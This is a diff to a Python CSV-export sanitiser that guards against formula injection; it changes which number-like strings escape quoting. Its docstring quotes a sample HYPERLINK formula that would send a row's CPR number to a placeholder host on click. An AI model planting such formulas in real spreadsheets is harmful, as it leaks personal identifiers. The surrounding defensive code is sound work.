@@ -6,8 +6,9 @@ LibreOffice: a name such as ``=HYPERLINK("http://x/?"&A2,"Klik")`` from a data d
 row's CPR number away on a click (OWASP "CSV injection"). Such a cell is written with a leading
 apostrophe, which the spreadsheet shows as text and does not run. Numbers, dates and booleans are
 never formulas and are left as they are (``-3`` stays a number), and so is a text that is a plain
-number: a sign, digits and at most one decimal point or comma (``-0,5`` in a Danish export, ``-3``,
-``+12.5``), which a spreadsheet reads as that number and never as a formula.
+negative number: a minus, digits and at most one decimal point or comma (``-0,5`` in a Danish
+export, ``-3``), which a spreadsheet reads as that number and never as a formula. A leading ``+``
+is still quoted: ``+4566113333`` is a phone number, which a spreadsheet would turn into a number.
 """
 
 from __future__ import annotations
@@ -18,8 +19,8 @@ from collections.abc import Iterable
 from typing import Any
 
 FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
-# a plain number: sign, digits, at most one decimal separator ("." or ","), digits; nothing else
-PLAIN_NUMBER = r"[+-]?[0-9]+([.,][0-9]+)?"
+# a plain number: a minus, digits, at most one decimal separator ("." or ","), digits; nothing else
+PLAIN_NUMBER = r"-?[0-9]+([.,][0-9]+)?"
 _PLAIN_NUMBER = re.compile(PLAIN_NUMBER)
 
 
